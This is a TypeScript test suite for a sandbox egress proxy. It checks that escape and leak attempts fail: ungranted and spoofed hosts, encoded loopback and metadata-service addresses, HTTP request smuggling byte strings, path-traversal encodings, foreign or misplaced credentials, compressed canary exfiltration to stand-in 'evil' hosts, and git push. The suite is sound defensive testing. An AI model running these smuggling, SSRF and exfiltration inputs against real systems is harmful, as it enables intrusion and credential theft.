// Attempts from inside a bottle to reach what it was not given, to borrow or leak credentials, and to make the proxy and a
// server disagree about a request. Observed at a sink outside.
import { deflateSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Mode, modesHere } from "../support/attack-world.ts";
import {
  type Attempt,
  type EgressAttack,
  type Expected,
  openEgressAttack,
  request,
  TOKENS,
} from "../support/egress-attack.ts";
import { requires } from "../support/requires.ts";

type Row = readonly [
  name: string,
  attempt: Attempt | ((attack: EgressAttack) => Attempt),
  expected: Expected,
];

const get = (url: string, host: string, ...lines: string[]): Attempt => ({
  bytes: request("GET", url, host, lines),
});
const connect = (authority: string): Attempt => ({ tunnel: { authority }, bytes: "" });
const within = (name: string, ...bytes: string[]): Attempt => ({
  tunnel: { authority: `${name}.attack.test:443` },
  bytes,
});
const inside = (name: string, target = "/", ...lines: string[]): Attempt =>
  within(name, request("GET", target, `${name}.attack.test`, lines));

const DENIED = { status: 403, reason: "host-not-allowed" } as const;
const MALFORMED = { status: 400, reason: "bad-request" } as const;
const NO_NAME = { status: 400, reason: "bad-authority" } as const;
const FOREIGN = { status: 403, reason: "foreign-credential", kind: "request" } as const;

// biome-ignore format: one attempt a line
const HOSTS: readonly Row[] = [
  ["an ungranted host, by CONNECT", connect("evil.attack.test:443"), { ...DENIED, kind: "connect" }],
  ["an ungranted host, by plain http", get("http://evil.attack.test/", "evil.attack.test"), { ...DENIED, kind: "request" }],
  ["an ungranted host, dot at its end", connect("evil.attack.test.:443"), DENIED],
  ["a granted host on another port", connect("api.attack.test:8443"), DENIED],
  ["a granted host on port 22", connect("open.attack.test:22"), DENIED],
  ["a granted host on 443 without TLS", get("http://open.attack.test:443/", "open.attack.test:443"), DENIED],
  ["a label in front of a granted host", connect("x.open.attack.test:443"), DENIED],
  ["a granted host as a prefix", connect("open.attack.test.evil.test:443"), DENIED],
  ["a granted host as a suffix of a label", connect("evilopen.attack.test:443"), DENIED],
  ["localhost", connect("localhost:443"), DENIED],
  ["localhost with a dot", get("http://localhost./", "localhost."), DENIED],
  ["the proxy itself, by name", get("http://egress:9099/", "egress:9099"), DENIED],
  ["the proxy itself, by address", get("http://127.0.0.1:9099/", "127.0.0.1:9099"), DENIED],
  ["the proxy itself, by CONNECT", connect("egress:9099"), DENIED],
  ["the proxy without a proxy request", get("/", "127.0.0.1:9099"), MALFORMED],
  ["the metadata service by name", connect("metadata.google.internal:443"), DENIED],
  ["a granted name that leads to the metadata service", get("http://private.attack.test/latest/", "private.attack.test"), { status: 403, reason: "address-forbidden", kind: "request" }],
  ["a NUL in the name", connect("open.attack.test\0.evil.test:443"), MALFORMED],
  ["a user before the name", connect("open.attack.test@evil.attack.test:443"), NO_NAME],
  ["a percent-encoded name", connect("%65vil.attack.test:443"), NO_NAME],
  ["a wide dot in the name", connect("open\xe3\x80\x82attack\xe3\x80\x82test:443"), MALFORMED],
  ["an empty port", connect("open.attack.test:"), NO_NAME],
  ["two ports", connect("open.attack.test:443:443"), NO_NAME],
  ["port 0", connect("open.attack.test:0"), NO_NAME],
  ["no name", connect(":443"), NO_NAME],
];

const ADDRESSES: readonly [string, Expected][] =
  "127.0.0.1 127.1 2130706433 0x7f000001 0x7f.1 0177.0.0.1 017700000001 127.0.0.1. 0 0.0.0.0 169.254.169.254 2852039166 0xa9fea9fe 10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 198.18.0.1 224.0.0.1 255.255.255.255 93.184.216.34 [::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [fe80::1] [fd00:ec2::254] [64:ff9b::7f00:1] [2002:7f00:1::] [ff02::1] [0:0:0:0:0:0:0:1]"
    .split(" ")
    .map((address) => [address, DENIED]);
const BAD_ADDRESSES: readonly [string, Expected][] =
  "[fe80::1%25eth0] [::1 ::1 [v1.x] 127.0.0.256 0x7f.0x0.0x0.0x100 1.2.3.4.5 [127.0.0.1]"
    .split(" ")
    .map((address) => [address, NO_NAME]);

// biome-ignore format: one attempt a line
const IDENTITY: readonly Row[] = [
  ["another server name than CONNECT's", { ...inside("open"), tunnel: { authority: "open.attack.test:443", servername: "evil.attack.test" } }, { status: undefined, reason: "authority-mismatch", kind: "connect" }],
  ["the server name of another granted host", { ...inside("open"), tunnel: { authority: "open.attack.test:443", servername: "api.attack.test" } }, { status: undefined, reason: "authority-mismatch" }],
  ["no server name", { ...inside("open"), tunnel: { authority: "open.attack.test:443", servername: "" } }, { status: undefined, reason: "authority-mismatch" }],
  ["another Host than CONNECT's", within("open", request("GET", "/", "evil.attack.test")), { status: 403, reason: "authority-mismatch", kind: "request" }],
  ["the Host of a granted host with a credential", within("open", request("GET", "/", "api.attack.test")), { status: 403, reason: "authority-mismatch" }],
  ["the Host with another port", within("open", request("GET", "/", "open.attack.test:8443")), { status: 403, reason: "authority-mismatch" }],
  ["two Hosts", within("open", request("GET", "/", "open.attack.test", ["Host: evil.attack.test"])), MALFORMED],
  ["no Host", within("open", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n"), MALFORMED],
  ["no Host, HTTP/1.0", within("open", "GET / HTTP/1.0\r\n\r\n"), MALFORMED],
  ["a URL of another host inside a tunnel", within("open", request("GET", "https://evil.attack.test/", "open.attack.test")), MALFORMED],
  ["a URL of another host and its Host inside a tunnel", within("open", request("GET", "http://evil.attack.test/", "evil.attack.test")), { status: 403, reason: "authority-mismatch" }],
  ["a Host that differs from the URL's", get("http://plain.attack.test/", "evil.attack.test"), { status: 403, reason: "authority-mismatch" }],
  ["a URL with a user", get("http://plain.attack.test@evil.attack.test/", "evil.attack.test"), NO_NAME],
  ["a URL with a backslash", get("http://plain.attack.test\\@evil.attack.test/", "plain.attack.test"), MALFORMED],
  ["an https URL without CONNECT", get("https://open.attack.test/", "open.attack.test"), MALFORMED],
  ["an ftp URL", get("ftp://open.attack.test/", "open.attack.test"), MALFORMED],
  ["a file URL", get("file:///etc/passwd", "open.attack.test"), MALFORMED],
  ["CONNECT inside a tunnel", within("open", "CONNECT evil.attack.test:443 HTTP/1.1\r\nHost: evil.attack.test:443\r\n\r\n"), MALFORMED],
  ["CONNECT and then no TLS", { tunnel: { authority: "open.attack.test:443", isPlain: true }, bytes: request("GET", "/", "open.attack.test") }, { ...MALFORMED, kind: "connect" }],
  ["CONNECT and then ssh", { tunnel: { authority: "open.attack.test:443", isPlain: true }, bytes: "SSH-2.0-OpenSSH_9.2\r\n" }, MALFORMED],
  ["a WebSocket", inside("open", "/", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAA"), { status: 426, reason: "upgrade-refused" }],
  ["h2c by upgrade", inside("open", "/", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), { status: 403, reason: "upgrade-refused" }],
  ["any other upgrade", inside("open", "/", "Connection: Upgrade", "Upgrade: tcp"), { status: 403, reason: "upgrade-refused" }],
  ["HTTP/2 by prior knowledge, to the proxy", { bytes: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" }, MALFORMED],
  ["HTTP/2 by prior knowledge, inside a tunnel", within("open", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), MALFORMED],
  ["TRACE", within("open", request("TRACE", "/", "open.attack.test")), MALFORMED],
  ["a path outside of matches", inside("narrow", "/other"), { status: 403, reason: "no-match" }],
  ["a path that only looks like one of matches", inside("narrow", "/okay"), { status: 403, reason: "no-match" }],
  ["a path out of matches by dots", inside("narrow", "/ok/../other"), MALFORMED],
  ["a path out of matches by encoded dots", inside("narrow", "/ok/%2e%2e/other"), MALFORMED],
  ["a path with an encoded slash", inside("narrow", "/ok%2f..%2fother"), MALFORMED],
  ["a path with a double encoding", inside("narrow", "/ok/%252e%252e/other"), MALFORMED],
  ["a path with a backslash", inside("narrow", "/ok/..\\other"), MALFORMED],
  ["a method outside of matches", within("narrow", request("DELETE", "/ok", "narrow.attack.test")), { status: 403, reason: "no-match" }],
  ["a method override outside of matches", within("narrow", request("get", "/other", "narrow.attack.test")), { status: 400, reason: "bad-request" }],
];

const post = (...lines: string[]): string =>
  [`POST / HTTP/1.1`, "Host: open.attack.test", "Connection: close", ...lines, "", ""].join("\r\n");
const CHUNKED = "Transfer-Encoding: chunked";
/** What a smuggler hides behind the first request. */
const HIDDEN = "GET /hidden HTTP/1.1\r\nHost: evil.attack.test\r\n\r\n";

// biome-ignore format: one attempt a line
const SMUGGLING: readonly (readonly [name: string, bytes: string])[] = [
  ["a length and chunks", `${post("Content-Length: 4", CHUNKED)}0\r\n\r\n${HIDDEN}`],
  ["chunks and a length", `${post(CHUNKED, "Content-Length: 4")}0\r\n\r\n${HIDDEN}`],
  ["two lengths", `${post("Content-Length: 0", "Content-Length: 50")}${HIDDEN}`],
  ["one length twice", `${post("Content-Length: 4", "Content-Length: 4")}abcd`],
  ["a list of lengths", `${post("Content-Length: 4, 4")}abcd`],
  ["a signed length", `${post("Content-Length: +4")}abcd`],
  ["a hexadecimal length", `${post("Content-Length: 0x4")}abcd`],
  ["a length with a blank before the colon", `${post("Content-Length : 4")}abcd`],
  ["chunks with a blank before the colon", `${post("Transfer-Encoding : chunked")}0\r\n\r\n`],
  ["chunks and something else", `${post("Transfer-Encoding: chunked, identity")}0\r\n\r\n`],
  ["gzip and chunks", `${post("Transfer-Encoding: gzip, chunked")}0\r\n\r\n`],
  ["xchunked", `${post("Transfer-Encoding: xchunked")}0\r\n\r\n`],
  ["chunked with a vertical tab", `${post("Transfer-Encoding: \x0bchunked")}0\r\n\r\n`],
  ["chunked twice", `${post(CHUNKED, CHUNKED)}0\r\n\r\n`],
  ["a folded header", `${post("X-A: 1", " Transfer-Encoding: chunked")}0\r\n\r\n${HIDDEN}`],
  ["chunks in HTTP/1.0", `${post(CHUNKED).replace("HTTP/1.1", "HTTP/1.0")}0\r\n\r\n`],
  ["a chunk size with a prefix", `${post(CHUNKED)}0x4\r\nabcd\r\n0\r\n\r\n`],
  ["a signed chunk size", `${post(CHUNKED)}+4\r\nabcd\r\n0\r\n\r\n`],
  ["a chunk that is longer than its size", `${post(CHUNKED)}4\r\nabcdefgh\r\n0\r\n\r\n`],
  ["a chunk size that overflows", `${post(CHUNKED)}10000000000000004\r\nabcd\r\n0\r\n\r\n`],
  ["chunks with bare line feeds", `${post(CHUNKED)}4\nabcd\n0\n\n`],
  ["bare line feeds", post("Content-Length: 0").replaceAll("\r\n", "\n")],
  ["a bare line feed in a header", `${post("X-A: 1\nX-B: 2", "Content-Length: 0")}`],
  ["a bare carriage return in a header", `${post("X-A: 1\rX-B: 2", "Content-Length: 0")}`],
  ["a NUL in a header", post("X-A: a\0b", "Content-Length: 0")],
  ["a header without a name", post(": x", "Content-Length: 0")],
  ["a header without a colon", post("nonsense", "Content-Length: 0")],
  ["a blank in a header's name", post("X A: 1", "Content-Length: 0")],
  ["a bad version", post("Content-Length: 0").replace("HTTP/1.1", "HTTP/1.7")],
  ["a header block without end", post(`X-A: ${"a".repeat(70_000)}`)],
];

// biome-ignore format: one attempt a line
const CREDENTIALS: readonly Row[] = [
  ["plain http on a route with a credential", get("http://api.attack.test/", "api.attack.test"), { status: 403, reason: "plain-http-credential" }],
  ["another credential in Authorization", inside("api", "/", "Authorization: Bearer sk-attacker-000000000000"), FOREIGN],
  ["another scheme in Authorization", inside("api", "/", `Authorization: Basic ${Buffer.from("me:mine-000000").toString("base64")}`), FOREIGN],
  ["another credential in X-Api-Key", inside("api", "/", "X-Api-Key: sk-attacker-000000000000"), FOREIGN],
  ["another credential beside the placeholder", ({ env }) => inside("api", "/", `Authorization: Bearer ${env["API_TOKEN"]}`, "X-Api-Key: sk-attacker-0000"), FOREIGN],
  ["two Authorizations", ({ env }) => inside("api", "/", `Authorization: Bearer ${env["API_TOKEN"]}`, "Authorization: Bearer sk-attacker-0000"), FOREIGN],
  ["another credential in the declared header", inside("key", "/", "X-Service-Key: sk-attacker-000000000000"), FOREIGN],
  ["another credential in a header's other case", inside("key", "/", "x-SERVICE-key: sk-attacker-000000000000"), FOREIGN],
  ["another credential in the declared query field", inside("query", "/?service_key=sk-attacker-000000"), FOREIGN],
  ["another credential in the field, encoded", inside("query", "/?service%5Fkey=sk-attacker-000000"), FOREIGN],
  ["another credential beside the field", ({ env }) => inside("query", `/?service_key=${env["QUERY_TOKEN"]}&service_key=sk-attacker`), FOREIGN],
  ["another credential in access_token", inside("api", "/?access_token=sk-attacker-000000"), FOREIGN],
  ["another credential in Proxy-Authorization", inside("api", "/", "Proxy-Authorization: Bearer sk-attacker-0000"), FOREIGN],
  ["a placeholder at another host", ({ env }) => inside("open", "/", `Authorization: Bearer ${env["API_TOKEN"]}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["a placeholder at another host's own carrier", ({ env }) => inside("key", "/", `X-Service-Key: ${env["API_TOKEN"]}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["a placeholder in another host's query", ({ env }) => inside("open", `/?q=${env["KEY_TOKEN"]}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["a placeholder in Basic at another host", ({ env }) => inside("open", "/", `Authorization: Basic ${Buffer.from(`x:${env["API_TOKEN"]}`).toString("base64")}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["git push over https, the question", inside("git", "/r.git/info/refs?service=git-receive-pack"), { status: 403, reason: "git-push-refused" }],
  ["git push over https, the pack", within("git", request("POST", "/r.git/git-receive-pack", "git.attack.test", ["Content-Type: application/x-git-receive-pack-request"], "0000")), { status: 403, reason: "git-push-refused" }],
  ["git push, its name encoded", within("git", request("POST", "/r.git/git%2Dreceive-pack", "git.attack.test", [], "0000")), { status: 403, reason: "git-push-refused" }],
  ["git fetch where it was not granted", inside("open", "/r.git/info/refs?service=git-upload-pack"), { status: 403, reason: "git-fetch-refused" }],
];

/** The canary of the bottle, packed and written as text. */
const packedCanary = ({ env }: EgressAttack, pack: (text: string) => Buffer): string => {
  const [, canary = ""] = Object.entries(env).find(([name]) => name.endsWith("_SECRET")) ?? [];
  expect(canary.length).toBeGreaterThanOrEqual(24);
  return pack(`some words and ${canary} and more`).toString("base64url");
};
const twice = (text: string): Buffer => Buffer.concat([gzipSync("words"), deflateSync(text)]);
const FOUND: Expected = { status: 403, reason: "secret-found" };
const sent = (body: string): Attempt =>
  within("open", request("POST", "/", "open.attack.test", [], body));

// biome-ignore format: one attempt a line
const PACKED: readonly Row[] = [
  ["gzip in base64 in JSON", (it) => sent(`{"a":"${packedCanary(it, gzipSync)}"}`), FOUND],
  ["zlib in base64", (it) => sent(packedCanary(it, deflateSync)), FOUND],
  ["a second stream behind the first, in base64", (it) => sent(packedCanary(it, twice)), FOUND],
  ["gzip in base64 in the query", (it) => inside("open", `/?q=${packedCanary(it, gzipSync)}`), FOUND],
];

describe.each(modesHere())(
  "egress of a bottle that %s owns",
  requires("bwrap", "userns"),
  (mode: Mode) => {
    let attack: EgressAttack;
    beforeAll(async () => {
      attack = await openEgressAttack(mode);
    });
    afterAll(() => attack?.[Symbol.asyncDispose]());
    const check = (attempt: Row[1], expected: Expected): Promise<unknown> =>
      attack.refused(typeof attempt === "function" ? attempt(attack) : attempt, expected);

    it("lets through what was granted, with the credential put in outside", async () => {
      const { env, sink } = attack;
      await attack.allowed(inside("api", "/", `Authorization: Bearer ${env["API_TOKEN"]}`));
      expect(sink.arrived.at(-1)?.headers.authorization).toBe(`Bearer ${TOKENS.API_TOKEN}`);
      await attack.allowed(inside("key"));
      expect(sink.arrived.at(-1)?.headers["x-service-key"]).toBe(TOKENS.KEY_TOKEN);
      await attack.allowed(inside("query", `/v1?a=1&service_key=${env["QUERY_TOKEN"]}`));
      expect(sink.arrived.at(-1)?.url).toBe(`/v1?a=1&service_key=${TOKENS.QUERY_TOKEN}`);
      await attack.allowed(get("http://plain.attack.test/", "plain.attack.test"));
      await attack.allowed(inside("narrow", "/ok/this"));
      await attack.allowed(inside("git", "/r.git/info/refs?service=git-upload-pack"));
      for (const variable of Object.keys(TOKENS))
        expect(env[variable]).toMatch(/^bot-bottle-placeholder-/);
      attack.expectNoSecret(JSON.stringify(env));
    });

    it("sends the canonical name on, whatever the spelling", async () => {
      await attack.allowed({
        tunnel: { authority: "OPEN.attack.TEST.:443", servername: "open.attack.test" },
        bytes: request("GET", "/", "Open.Attack.Test."),
      });
      expect(attack.sink.arrived.at(-1)?.host).toBe("open.attack.test");
    });

    it.each(HOSTS)(
      "does not reach %s",
      async (_name, attempt, expected) => void (await check(attempt, expected)),
    );
    it.each(ADDRESSES)("does not reach the address %s", async (address, expected) => {
      await check(connect(`${address}:443`), expected);
      await check(get(`http://${address}/`, address), expected);
    });
    it.each(BAD_ADDRESSES)("does not read %s as a name", async (address, expected) => {
      await check(connect(`${address}:443`), expected);
    });
    it.each(IDENTITY)(
      "refuses %s",
      async (_name, attempt, expected) => void (await check(attempt, expected)),
    );
    it.each(PACKED)(
      "finds the canary in %s",
      async (_name, attempt, expected) => void (await check(attempt, expected)),
    );
    it.each(SMUGGLING)("refuses %s", async (_name, bytes) => {
      await check({ tunnel: { authority: "open.attack.test:443" }, bytes }, MALFORMED);
      const absolute = bytes.replace("POST / ", "POST http://plain.attack.test/ ");
      await check(
        { bytes: absolute.replaceAll("open.attack.test", "plain.attack.test") },
        MALFORMED,
      );
    });
    it.each(CREDENTIALS)(
      "refuses %s",
      async (_name, attempt, expected) => void (await check(attempt, expected)),
    );

    it("judges each request of a connection by itself", async () => {
      const { sink, world } = attack;
      const before = sink.arrived.length;
      const first = "GET /first HTTP/1.1\r\nHost: open.attack.test\r\n\r\n";
      const { text = "" } = await attack.send({ ...within("open", first, HIDDEN), waitMs: 500 });
      expect(text.match(/^HTTP\/1\.1 \d+/gm)).toEqual(["HTTP/1.1 200", "HTTP/1.1 403"]);
      expect(text).toContain("egress: authority-mismatch: ");
      expect(sink.arrived.slice(before).map(({ url }) => url)).toEqual(["/first"]);
      expect(world.audit().at(-1)).toMatchObject({ verdict: "deny", reason: "authority-mismatch" });
    });

    it("hands bytes behind a request to nobody as they are", async () => {
      const { sink } = attack;
      const before = sink.arrived.length;
      const body = "POST /one HTTP/1.1\r\nHost: open.attack.test\r\nContent-Length: 3\r\n\r\nabc";
      await attack.send({ ...within("open", `${body}${HIDDEN}`), waitMs: 500 });
      expect(sink.arrived.slice(before).map(({ url, body: got }) => [url, got.toString()])).toEqual(
        [["/one", "abc"]],
      );
    });

    it("keeps the address that it dials from the guest's hands", async () => {
      // A guest that lies about where a name leads changes nothing: the proxy resolves by itself.
      const { text = "" } = await attack.send({
        ...inside("api"),
        tunnel: { authority: "api.attack.test:443" },
      });
      expect(text).toMatch(/^HTTP\/1\.1 200 /);
      const lie = await attack.world.run([
        "/bin/sh",
        "-c",
        "echo '203.0.113.7 api.attack.test' >> /etc/hosts",
      ]);
      expect(lie.code).not.toBe(0);
    });

    it("masks a credential that comes back, in headers and bodies, however it is cut", async () => {
      const { sink } = attack;
      const own = sink.answer;
      try {
        sink.answer = ({ headers, url }, response) => {
          const token = `${headers.authorization ?? ""} ${String(headers["x-service-key"] ?? "")} ${url}`;
          response.setHeader("x-echo", token);
          for (const piece of token.match(/.{1,5}/g) ?? []) response.write(piece);
          response.end();
        };
        for (const name of ["api", "key", "query"]) {
          const { text = "" } = await attack.allowed(inside(name));
          attack.expectNoSecret(text);
          // Cut into chunks on its way, the value still must not be there when they are put together.
          attack.expectNoSecret(text.replace(/\r\n[0-9a-f]+\r\n/g, ""));
        }
      } finally {
        sink.answer = own;
      }
    });

    it("does not follow a redirect with or without the credential", async () => {
      const { sink } = attack;
      const own = sink.answer;
      try {
        sink.answer = ({ headers }, response) =>
          response
            .writeHead(302, {
              location: `https://evil.attack.test/?t=${headers.authorization ?? ""}`,
            })
            .end();
        const { text = "" } = await attack.allowed(inside("api"), 302);
        attack.expectNoSecret(text);
      } finally {
        sink.answer = own;
      }
      expect(sink.arrived.some(({ host }) => host.startsWith("evil"))).toBe(false);
    });

    it.each(["wrong", "stranger"])(
      "sends nothing to an upstream that cannot prove its name: %s",
      async (name) => {
        const before = attack.sink.count().requests;
        const { text } = await attack.send(inside(name));
        expect(text).toMatch(/^HTTP\/1\.1 403 [^]*\r\n\r\negress: upstream-untrusted: /);
        expect(attack.sink.count().requests).toBe(before);
        expect(attack.world.audit().at(-1)).toMatchObject({
          verdict: "deny",
          reason: "upstream-untrusted",
        });
      },
    );

    it("refuses git itself, with its own words", requires("git"), async () => {
      const { world, sink } = attack;
      const before = sink.arrived.length;
      const push = await world.sh(
        "cd /tmp && git init -q r && cd r && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x && git push https://git.attack.test/r.git HEAD:refs/heads/main",
      );
      expect(push.code).not.toBe(0);
      expect(push.stderr).toContain("403");
      const fetch = await world.sh("git ls-remote https://open.attack.test/r.git");
      expect(fetch.code).not.toBe(0);
      expect(fetch.stderr).toContain("403");
      expect(sink.arrived.length).toBe(before);
      expect(
        world
          .audit()
          .filter(({ reason }) => reason === "git-push-refused" || reason === "git-fetch-refused")
          .length,
      ).toBeGreaterThan(1);
    });

    it("keeps a log that proves its own order", async () => {
      const { verifyAudit } = await import("../../src/protocol/audit-read.ts");
      const result = await verifyAudit(attack.world.bottles[0]?.audit ?? "");
      expect(result).toMatchObject({ ok: true });
      attack.expectNoSecret("");
    });
  },
);
